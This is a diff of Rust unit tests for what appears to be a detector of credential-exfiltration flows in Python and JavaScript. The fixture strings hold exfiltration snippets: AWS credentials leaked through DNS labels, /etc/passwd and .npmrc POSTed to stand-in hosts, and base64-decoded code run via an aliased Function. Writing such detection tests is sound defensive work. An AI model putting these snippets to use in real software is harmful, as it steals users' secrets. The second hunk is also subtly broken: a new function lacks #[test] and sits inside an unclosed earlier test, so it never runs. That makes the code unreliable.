@@ -538,6 +538,36 @@ fn a_secret_spelled_into_a_dns_name_is_sent() {
 }
 
 #[test]
+fn a_credential_file_read_by_a_helper_leaves_in_dns_labels_of_a_loop() {
+    // The path reaches the read through the helper's parameter; the chunks reach the lookup through
+    // `enumerate` and `%` formatting.
+    let text = "import os, socket, binascii\ndef chunks(path, size=30):\n    raw = open(os.path.expanduser(path), 'rb').read()\n    h = binascii.hexlify(raw).decode()\n    return [h[i:i + size] for i in range(0, len(h), size)]\ndef probe():\n    for n, piece in enumerate(chunks('~/.aws/credentials')):\n        socket.getaddrinfo('%s.%d.%s' % (piece, n, 'z.example.invalid'), 53)\nprobe()\n";
+    let found = py(text);
+    assert!(
+        found
+            .iter()
+            .any(|(k, sink, _, _)| *k == FlowKind::CredentialToNetwork
+                && sink.starts_with("socket.getaddrinfo")),
+        "{found:?}"
+    );
+    // A label built with the data first (`f"{piece}.{zone}"`) is the data, not a host the file names.
+    let leading = "import socket\nfor n, piece in enumerate(open('/home/u/.aws/credentials').read().split()):\n    socket.gethostbyname(f'{piece}.{n}.z.example.invalid')\n";
+    assert!(
+        py(leading)
+            .iter()
+            .any(|(k, _, _, _)| *k == FlowKind::CredentialToNetwork),
+        "{:?}",
+        py(leading)
+    );
+    // Resolving the hosts a config names, one by one, sends nothing of the file.
+    let config = "import socket\nfor n, host in enumerate(['a.example.invalid', 'b.example.invalid']):\n    socket.getaddrinfo(host, 443)\n";
+    assert!(py(config).is_empty(), "{:?}", py(config));
+    // A server name read from a credential file and resolved whole is a look-up of that server.
+    let kube = "import os, socket, yaml\ncfg = yaml.safe_load(open(os.path.expanduser('~/.kube/config')))\nfor n, c in enumerate(cfg['clusters']):\n    host = c['cluster']['server']\n    socket.getaddrinfo(host, 443)\n";
+    assert!(py(kube).is_empty(), "{:?}", py(kube));
+}
+
+#[test]
 fn output_of_a_command_that_names_the_machine_is_host_identity() {
     let popen = "import os\nfrom urllib import request, parse\nwho = os.popen('whoami').read()\nusers = os.popen('cat /etc/passwd').read()\nbody = parse.urlencode({'u': who, 'p': users}).encode()\nrequest.urlopen(request.Request('https://in.example.invalid/c', data=body))\n";
     let found = py(popen);
@@ -842,4 +872,37 @@ fn an_agents_model_key_sent_to_its_model_vendor_is_its_own_service() {
     assert!(py(vendor).is_empty(), "{:?}", py(vendor));
     let elsewhere = vendor.replace("api.anthropic.com/v1/messages", "x.example.invalid/k");
     assert_eq!(py(&elsewhere).len(), 1, "{:?}", py(&elsewhere));
+
+fn a_code_runner_under_a_local_name_is_still_a_sink() {
+    let text = "const Make = Function;\nconst build = Make;\nconst body = Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp', 'base64').toString();\nnew build(body)();\n";
+    let found = js(text);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::DecodedToExec),
+        "{found:?}"
+    );
+    // A template engine compiling its caller's expression hides nothing.
+    let template =
+        "const Make = Function;\nmodule.exports = (expr) => new Make('d', 'return ' + expr);\n";
+    assert!(js(template).is_empty(), "{:?}", js(template));
+}
+
+#[test]
+fn a_value_put_in_the_environment_is_read_back_from_it() {
+    let text = "import os, urllib.request\nos.environ['SYNC_SRC'] = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\ndef load():\n    with open(os.environ['SYNC_SRC']) as fh:\n        return fh.read()\nurllib.request.urlopen('https://s.example.invalid/u', data=load().encode())\n";
+    let found = py(text);
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
+        "{found:?}"
+    );
+    let js_text = "const fs = require('fs');\nconst os = require('os');\nprocess.env.SYNC_SRC = os.homedir() + '/.npmrc';\nfetch('https://s.example.invalid/u', { method: 'POST', body: fs.readFileSync(process.env.SYNC_SRC, 'utf8') });\n";
+    assert!(
+        js(js_text)
+            .iter()
+            .any(|f| f.0 == FlowKind::CredentialToNetwork),
+        "{:?}",
+        js(js_text)
+    );
+    // The module's own settings file, put in the environment for a child process, is not a credential.
+    let own = "import os, json\nos.environ['APP_CFG'] = os.path.expanduser('~/.config/app/settings.json')\ncfg = json.load(open(os.environ['APP_CFG']))\n";
+    assert!(py(own).is_empty(), "{:?}", py(own));
 }
